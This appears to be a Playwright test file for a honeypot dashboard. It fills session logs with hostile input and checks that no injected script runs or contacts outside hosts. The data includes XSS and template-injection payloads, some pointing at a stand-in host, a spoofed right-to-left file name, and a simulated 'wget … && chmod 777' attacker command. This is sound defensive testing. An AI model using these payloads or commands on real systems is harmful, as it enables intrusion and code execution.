// Walks every page in a real browser, over a store in which every field is hostile: nothing runs, nothing leaves, nothing breaks.
/// <reference lib="dom" />
import assert from 'node:assert/strict';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import type { Browser, Page } from 'playwright-core';
import {
  buildPages,
  launch,
  open as openPage,
  noBrowser as skip,
  type Watched,
  type WatchOptions,
  watch,
} from '../../test/web/browser.ts';
import { Dashboard, sessionEvents, stopAll, writeRecording } from '../../test/web/dashboard.ts';
import type { Pulse } from './schema.ts';

// From the OWASP XSS filter evasion cheat sheet and PortSwigger's, and what turns text around or hides it.
const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  'javascript:alert(1)',
  'JaVaScRiPt://%0aalert(1)//http://x',
  '<a href="javascript:alert(1)">click</a>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '</title></textarea></style></noscript></template><script>alert(1)</script>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv=refresh content="0;url=http://198.51.100.66/">',
  '<base href="http://198.51.100.66/">',
  '<link rel=stylesheet href=http://198.51.100.66/x.css>',
  '<style>@import "http://198.51.100.66/x.css";body{background:url(http://198.51.100.66/y)}</style>',
  '<img src=http://198.51.100.66/pixel.png>',
  '{{constructor.constructor("alert(1)")()}}',
  '$'.concat('{alert(1)}'),
  '__proto__',
  '\u001b]0;title\u0007\u001b[2J\u001b[31mred',
  'invoice\u202egpj.exe\u2066\u200b\u2028\u2029\ufeff',
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  '\u0000\u0008\u007f\u009b',
  'x'.repeat(5000),
  '観察'.repeat(400),
];

let browser: Browser;
let dashboard: Dashboard;
let pages: Awaited<ReturnType<typeof buildPages>> | undefined;
let built: string;
let recording: string;
const ids: number[] = [];

before(async () => {
  if (skip) return;
  pages = await buildPages();
  built = pages.directory;
  // Names of networks come out of files that others write.
  const origin = (text: string) => {
    const index = Number(/\d+$/.exec(text)?.[0] ?? 0) % PAYLOADS.length;
    return {
      country: index % 2 ? 'JP' : 'QQ',
      asn: 64_500 + index,
      asName: PAYLOADS[index]!,
      scanner: 'Scanner & <b>Sons</b>',
    };
  };
  dashboard = await Dashboard.start({
    pages: built,
    locate: origin,
    geo: {
      sources: [
        {
          name: PAYLOADS[1]!,
          built: 0,
          attribution: ['IP Geolocation by DB-IP (https://db-ip.com/)', PAYLOADS[0]!],
          notice: PAYLOADS[2]!,
          gives: { country: true, asn: true },
          records: 1,
        },
      ],
      scanners: { count: 1, date: '2026-06-22' },
    },
  });
  const start = Date.now() - PAYLOADS.length * 20_000;
  recording = writeRecording(
    dashboard.data,
    start + 4000,
    PAYLOADS.map((text) => `${text}\r\n$ `),
    ['id\n'],
  );
  PAYLOADS.forEach((text, index) => {
    dashboard.append(
      sessionEvents(
        start + index * 20_000,
        [
          { eventid: 'cowrie.session.connect' },
          { eventid: 'cowrie.client.version', version: `SSH-2.0-${text}` },
          { eventid: 'cowrie.client.kex', hassh: text, hasshAlgorithms: text, kexAlgs: [text] },
          { eventid: 'cowrie.client.var', name: text, value: text },
          { eventid: 'cowrie.login.success', username: text, password: text },
          { eventid: 'cowrie.command.input', input: text },
          { eventid: 'cowrie.command.failed', input: text },
          { eventid: 'cowrie.session.file_download', url: text, destfile: text, outfile: text, shasum: text },
          { eventid: 'cowrie.session.file_upload', filename: text, outfile: text, shasum: 'b'.repeat(64) },
          { eventid: 'kansatsuki.session.download_request', url: text, tool: text, policy: 'record' },
          { eventid: 'cowrie.direct-tcpip.request', dst_ip: text, dst_port: 80, orig_ip: text, orig_port: 1 },
          { eventid: `cowrie.unknown.${index}`, [text]: text, message: text },
          ...(index === 0
            ? [
                {
                  eventid: 'cowrie.log.closed',
                  ttylog: `tty/${recording}`,
                  shasum: recording,
                  size: 1,
                  duplicate: false,
                },
              ]
            : []),
          { eventid: 'cowrie.session.closed', duration_ms: 12_000, duration: 12 },
        ],
        index % 5 === 4 ? text.slice(0, 60) : `203.0.113.${index}`,
      ),
    );
  });
  dashboard.read();
  // One that is kept, and says of itself what a script might believe.
  mkdirSync(join(dashboard.data, 'downloads'));
  writeFileSync(join(dashboard.data, 'downloads', 'b'.repeat(64)), `#!${PAYLOADS[0]}\n${PAYLOADS[1]}\n`);
  const { items } = await dashboard.json<{ items: { id: number }[] }>('/sessions?limit=500');
  ids.push(...items.map(({ id }) => id));
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await stopAll();
  pages?.remove();
});

const watched = ({ of = dashboard, ...options }: WatchOptions & { of?: Dashboard } = {}): Promise<Watched> =>
  watch(browser, of, options);

const open = (page: Page, path: string) => openPage(page, dashboard.url(path));

const FOREIGN = readFileSync(join(import.meta.dirname, '../../test/web/foreign.js'), 'utf8');
const foreign = (page: Page) => page.evaluate<string[]>(FOREIGN);

for (const language of ['en', 'ja'] as const)
  test(`every page in ${language}: no script runs, nothing leaves, nothing is wider than the screen`, {
    skip,
  }, async () => {
    for (const [width, theme] of [
      [1280, 'light'],
      [360, 'dark'],
    ] as const) {
      const { page, trouble } = await watched({ width, settings: { language, theme } });
      const paths = [
        '/',
        '/explore?range=all',
        '/explore?range=hour&series=commands',
        '/sessions',
        '/sessions?loggedIn=true&withCommands=true',
        '/sessions?country=JP&asn=AS64503',
        `/sessions?country=${encodeURIComponent(PAYLOADS[1]!)}&asn=${encodeURIComponent(PAYLOADS[20]!)}`,
        '/sessions?view=folded',
        '/sessions?sensor=kansatsu-test&outcome=download&eventid=cowrie.client.kex',
        `/sessions?outcome=download&country=QQ&hassh=${encodeURIComponent(PAYLOADS[16]!)}`,
        '/credentials?range=all',
        '/credentials?range=all&show=wordlists',
        '/credentials?range=all&show=first',
        '/credentials?range=all&show=rare',
        `/explore?range=all&command=alert&url=${encodeURIComponent(PAYLOADS[1]!)}`,
        '/attackers?range=all',
        '/attackers?range=all&kind=client',
        '/attackers/country/JP',
        `/attackers/client/${encodeURIComponent(`SSH-2.0-${PAYLOADS[3]}`)}`,
        `/attackers/hassh/${encodeURIComponent(PAYLOADS[9]!)}`,
        '/attackers/asn/AS64503',
        `/samples/${encodeURIComponent(PAYLOADS[4]!)}`,
        '/samples?kind=script&origin=alert',
        '/samples',
        '/replay',
        '/campaigns',
        '/samples?cursor=1.0',
        '/addresses/203.0.113.7',
        `/sessions?username=${encodeURIComponent(PAYLOADS[0]!)}&client=${encodeURIComponent(PAYLOADS[1]!)}`,
        ...(width > 1000 ? ids : ids.slice(0, 3)).map((id) => `/sessions/${id}`),
        '/diary',
        '/health',
        '/no/such/page',
        '/sessions/1',
      ];
      for (const path of paths) {
        await open(page, path).catch((error) => assert.fail(`${path}: ${error.message}; ${trouble.join('; ')}`));
        // Everything that is folded is looked at too.
        await page.evaluate(`for (const details of document.querySelectorAll('main details')) details.open = true`);
        assert.deepEqual(await foreign(page), [], path);
        const over = await page.evaluate<number>('document.documentElement.scrollWidth - innerWidth');
        assert.ok(over <= 0, `${path} is ${over} px too wide at ${width}`);
        assert.equal(await page.evaluate('document.documentElement.lang'), language);
      }
      const expected = /^error: Failed to load resource: the server responded with a status of 404/;
      assert.deepEqual(
        trouble.filter((line) => !expected.test(line)),
        [],
      );
      await page.context().close();
    }
  });

test('a recording plays: marked, inert', { skip }, async () => {
  const { page, trouble } = await watched();
  await open(page, `/replay/${recording}?session=${ids.at(-1)!}&speed=32`);
  await page.locator('.replay .marks button').first().click();
  await page.locator('.terminal').getByText('観察観察').first().waitFor({ timeout: 15_000 });
  assert.deepEqual(await foreign(page), []);
  assert.deepEqual(trouble, []);
  await page.context().close();
});

test('what happens is on the page by itself, also after the observer was away', { skip }, async () => {
  const { page, trouble } = await watched();
  await page.locator('.live-mark.on').waitFor();
  const attempt = (password: string) =>
    sessionEvents(Date.now(), [{ eventid: 'cowrie.login.failed', username: 'root', password }]);
  dashboard.append(attempt('seen-at-once'));
  await page.locator('.feed-lines').getByText('seen-at-once').waitFor();

  const { data, web } = dashboard;
  await dashboard.stop(true);
  await page.locator('.live-mark:not(.on)').waitFor();
  trouble.length = 0;
  dashboard = await Dashboard.start({ data, pages: built, web: { listen: web.address } });
  dashboard.append(attempt('seen-after-return'));
  await page.locator('.feed-lines').getByText('seen-after-return').waitFor({ timeout: 15_000 });
  assert.ok(await page.locator('.feed-lines').getByText('seen-at-once').isVisible());
  assert.equal(await page.locator('.feed-lines').getByText('seen-after-return').count(), 1);
  await page.context().close();
});

test('numbers lead to the sessions behind them, the URL holds the state, Back returns', { skip }, async () => {
  const { page, trouble } = await watched({ settings: { language: 'en' } });
  await open(page, '/explore?range=all');
  await page.locator('.toplist', { hasText: 'User names' }).getByRole('link', { name: '<script>' }).first().click();
  await page.waitForURL(/\/sessions\?username=/);
  await page.locator('table.sessions tbody tr').first().waitFor();
  assert.equal(await page.locator('table.sessions tbody tr').count(), 1);
  await page.locator('table.sessions a').first().click();
  await page.waitForURL(/\/sessions\/\d+$/);
  await page.getByRole('heading', { name: 'Transcript' }).waitFor();
  await page.goBack();
  await page.goBack();
  await page.waitForURL(/explore\?range=all/);
  // The timeline narrows by keyboard.
  const chart = page.getByRole('slider').first();
  await chart.focus();
  await chart.press('ArrowLeft');
  await chart.press('Enter');
  await page.waitForURL(/from=\d+&to=\d+/);
  assert.deepEqual(trouble, []);
  await page.context().close();
});

/** Two sessions of today's last hour, and some at the same time of earlier days. */
async function withEarlierDays(counts: readonly number[]): Promise<Dashboard> {
  const own = await Dashboard.start({ pages: built });
  const now = Date.now();
  const day = 86_400_000;
  [2, ...counts].forEach((count, days) => {
    for (let i = 0; i < count; i++)
      own.append(
        sessionEvents(now - days * day - 1_800_000 + i * 1000, [
          { eventid: 'cowrie.session.connect' },
          { eventid: 'cowrie.login.failed', username: days === 0 ? 'root' : 'admin', password: 'x' },
        ]),
      );
  });
  own.read();
  return own;
}

test('the pulse says what is usual where enough earlier days are on record, and else nothing', { skip }, async () => {
  const many = await withEarlierDays([2, 3, 4, 9, 1]);
  for (const [language, said] of [
    ['en', '2 sessions in the last hour; usual at this time: 3.5\u00a0±\u00a01 (median of 4 earlier days)'],
    ['ja', '直近 1 時間に 2 セッション、この時刻の普段は 3.5\u00a0±\u00a01 (過去 4 日の中央値)'],
  ] as const) {
    const { page, trouble } = await watched({ of: many, settings: { language } });
    assert.equal(await page.locator('.usual').first().textContent(), said);
    await page.locator('.usual a').first().click();
    await page.waitForURL(/\/sessions\?from=\d+&to=\d+/);
    await page.locator('table.sessions tbody tr').first().waitFor();
    assert.equal(await page.locator('table.sessions tbody tr').count(), 2);
    assert.deepEqual(trouble, []);
    await page.context().close();
  }
  const few = await withEarlierDays([2, 3, 1]);
  const { page } = await watched({ of: few });
  const answered = page.waitForResponse(/\/pulse$/);
  await page.reload();
  assert.equal(((await (await answered).json()) as Pulse).hour.sessions.samples, 2);
  await page.locator('.bars').nth(1).waitFor();
  assert.equal(await page.locator('.usual').count(), 0);
  await page.context().close();
});

test('Explore says how counts have changed against the period before, where the record holds it', {
  skip,
}, async () => {
  const own = await withEarlierDays([3, 2]);
  const end = Math.ceil(Date.now() / 3_600_000) * 3_600_000;
  const { page, trouble } = await watched({ of: own, settings: { language: 'en' } });
  const rows = (heading: string) =>
    page.locator('.toplist', { has: page.getByRole('heading', { name: heading, exact: true }) }).locator('ol a');
  const explore = async (days: number) => {
    const totals = page.waitForResponse(/\/totals$/);
    await page.goto(new URL(`/explore?from=${end - days * 86_400_000}&to=${end}`, own.web.url).href);
    await totals;
    await rows('Addresses').first().waitFor();
  };
  // Root is of today, admin of the days before; the address came on all of them.
  await explore(1);
  await page.locator('.change').first().waitFor();
  assert.deepEqual(await rows('User names').allTextContents(), ['root2new, never seen before this range']);
  assert.deepEqual(await rows('Addresses').allTextContents(), [
    '203.0.113.7 2−1, 1 fewer than in the period before (3)',
  ]);
  await rows('Addresses').first().click();
  await page.waitForURL(/\/sessions\?address=203.0.113.7&from=\d+&to=\d+/);
  await page.locator('table.sessions tbody tr').nth(1).waitFor();
  assert.equal(await page.locator('table.sessions tbody tr').count(), 2);
  await explore(2);
  assert.deepEqual(await rows('User names').allTextContents(), ['admin3', 'root2']);
  assert.equal(await page.locator('.change, .against').count(), 0);
  assert.deepEqual(trouble, []);
  await page.context().close();
});

test('a sample is downloaded only after its warning was opened, and a look-up is only a link', { skip }, async () => {
  const { page, trouble } = await watched({ settings: { language: 'en' } });
  await open(page, '/samples');
  // Hashes that are none are not offered anywhere.
  const hostile = page.locator('.samples > li', { hasText: '<iframe' }).first();
  assert.equal(await hostile.locator('a[href^=https], details').count(), 0);
  await page.getByRole('link', { name: /^Older samples/ }).click();
  await page.waitForURL(/cursor=/);
  const kept = page.locator('.samples > li', { hasText: 'b'.repeat(64) });
  await kept.getByRole('heading', { name: /^Script <script>/ }).waitFor();
  const take = kept.getByRole('link', { name: /^I understand/ });
  assert.equal(await take.isVisible(), false);
  await kept.getByText('Download…').click();
  await kept.getByText('probably harmful').waitFor();
  const [download] = await Promise.all([page.waitForEvent('download'), take.click()]);
  assert.equal(download.suggestedFilename(), `${'b'.repeat(64)}.zip`);
  assert.equal(
    readFileSync(await download.path())
      .subarray(0, 4)
      .toString('latin1'),
    'PK\x03\x04',
  );
  for (const link of await kept.locator('a[href^=https]').all())
    assert.deepEqual([await link.getAttribute('rel'), await link.getAttribute('target')], ['noreferrer', '_blank']);
  await kept.getByRole('link', { name: /times$|^once$/ }).click();
  await page.waitForURL(/\/sessions\?hash=b{64}$/);
  assert.deepEqual(trouble, []);
  await page.context().close();
});

test('facets narrow the list, chips and chosen values widen it again', { skip }, async () => {
  const payload = PAYLOADS[1]!;
  const { page, trouble } = await watched({ settings: { language: 'en' } });
  await open(page, '/sessions');
  const facets = page.locator('.facets');
  const rows = page.locator('table.sessions tbody tr');
  const group = (name: string) =>
    facets.locator('section', { has: page.getByRole('heading', { name, exact: true }) }).getByRole('link');
  assert.equal(await facets.getAttribute('open'), '');
  await group('Outcome').filter({ hasText: 'brought files' }).click();
  await page.waitForURL(/outcome=download/);
  await group('HASSH').filter({ hasText: payload }).first().click();
  await page.waitForURL(/outcome=download&hassh=/);
  await rows.nth(1).waitFor({ state: 'detached' });
  assert.equal(await rows.count(), 1);
  await group('Event').filter({ hasText: 'cowrie.client.kex' }).click();
  await page.waitForURL(/eventid=cowrie.client.kex/);
  assert.deepEqual(await page.locator('.chips a').allTextContents(), [
    `HASSH: ${payload} ×`,
    'Outcome: brought files ×',
    'Event: cowrie.client.kex ×',
    'Clear all',
  ]);
  // The form keeps what only facets set.
  await page.getByRole('searchbox', { name: 'User name' }).fill(payload);
  await page.getByRole('button', { name: 'Filter', exact: true }).click();
  await page.waitForURL(/username=/);
  const kept = new URL(page.url()).searchParams;
  assert.deepEqual(
    ['username', 'hassh', 'outcome', 'eventid'].map((name) => kept.get(name)),
    [payload, payload, 'download', 'cowrie.client.kex'],
  );
  await page.getByRole('link', { name: `Remove HASSH: ${payload}` }).click();
  await page.waitForURL((url) => !url.searchParams.has('hassh'));
  await facets.getByRole('link', { name: 'Remove brought files' }).click();
  await page.waitForURL((url) => !url.searchParams.has('outcome'));
  await page.locator('.chips').getByRole('link', { name: 'Clear all' }).click();
  await page.waitForURL(/\/sessions$/);
  await rows.nth(1).waitFor();
  assert.deepEqual(trouble, []);
  await page.context().close();

  const narrow = await watched({ width: 360 });
  await open(narrow.page, '/sessions');
  assert.equal(await narrow.page.locator('.facets').getAttribute('open'), null);
  await narrow.page.context().close();
});

test('screenshot mode hides every address and our own name', { skip }, async () => {
  const { page } = await watched({ settings: { mask: true } });
  for (const path of [
    '/',
    '/explore?range=all',
    '/sessions',
    `/sessions/${ids.at(-1)}`,
    '/samples',
    '/campaigns',
    '/diary',
  ]) {
    await open(page, path);
    const text = await page.evaluate<string>('document.body.textContent');
    assert.doesNotMatch(text, /203\.0\.113\.\d|192\.0\.2\.1|kansatsu-test/, path);
  }
  await page.context().close();
});

test('without a login there is only the way in', { skip }, async () => {
  const page = await browser.newPage();
  await page.goto(dashboard.web.url);
  await page.getByText('login link').waitFor();
  assert.equal(await page.locator('nav').count(), 0);
  await page.close();
});

test('the first load is at most 60 KB of compressed JavaScript', { skip }, async () => {
  const html = readFileSync(join(built, 'index.html'), 'utf8');
  const scripts = [...html.matchAll(/(?:src|href)="(\/assets\/[^"]+\.js)"/g)].map(([, path]) => path!);
  assert.ok(scripts.length > 0);
  const bytes = scripts.reduce((sum, path) => sum + gzipSync(readFileSync(join(built, path)), { level: 9 }).length, 0);
  assert.ok(bytes <= 60 * 1024, `${bytes} bytes`);
  assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)|<style|\son\w+=/);
  assert.ok(readdirSync(join(built, 'assets')).some((name) => name.endsWith('.js.br')));
});

test('the drawings show what was counted: map, week, folds, pairs, an address, techniques in a line', {
  skip,
}, async () => {
  const line = 'cd /tmp; wget http://192.0.2.1/x && chmod 777 x';
  dashboard.append(
    sessionEvents(
      Date.now() - 60_000,
      [
        { eventid: 'cowrie.session.connect' },
        { eventid: 'cowrie.login.success', username: 'root', password: 'marked' },
        { eventid: 'cowrie.command.input', input: line },
        { eventid: 'cowrie.session.closed', duration_ms: 1000, duration: 1 },
      ],
      '203.0.113.201',
    ),
  );
  dashboard.read();
  const { items } = await dashboard.json<{ items: { id: number }[] }>('/sessions?address=203.0.113.201');
  const { page, trouble } = await watched();
  await open(page, `/sessions/${items[0]!.id}`);
  await page.locator('.transcript mark').first().waitFor();
  assert.deepEqual(await page.locator('.transcript mark').allInnerTexts(), ['wget http://192.0.2.1/x', 'chmod 777 x']);
  assert.deepEqual((await page.locator('.techniques .technique-id').allInnerTexts()).sort(), ['T1105', 'T1222.002']);
  await open(page, '/');
  await page.locator('.world .disc').first().waitFor();
  assert.match((await page.locator('.world .disc title').first().textContent()) ?? '', /^Japan: \d+ sessions$/);
  await open(page, '/explore?range=day');
  await page.locator('.heat td').first().waitFor();
  const cells = await page.locator('.heat td .sr').allTextContents();
  const { sessions } = await dashboard.json<{ sessions: number }>('/totals');
  assert.equal(cells.length, 168);
  assert.equal(
    cells.reduce((sum, text) => sum + Number(text), 0),
    sessions,
  );
  await open(page, '/credentials?range=all');
  await page.locator('.matrix td a').first().waitFor();
  await open(page, '/addresses/203.0.113.201');
  await page.locator('.order li').first().waitFor();
  assert.match(await page.locator('.order li').first().innerText(), /root\s*\/\s*marked/);
  await open(page, '/sessions?view=folded');
  await page.locator('.fold-count').first().click();
  await page.waitForURL(/behaviour=/);
  await page
    .getByText(/alike sessions/)
    .first()
    .waitFor();
  assert.deepEqual(trouble, []);
  await page.context().close();
});
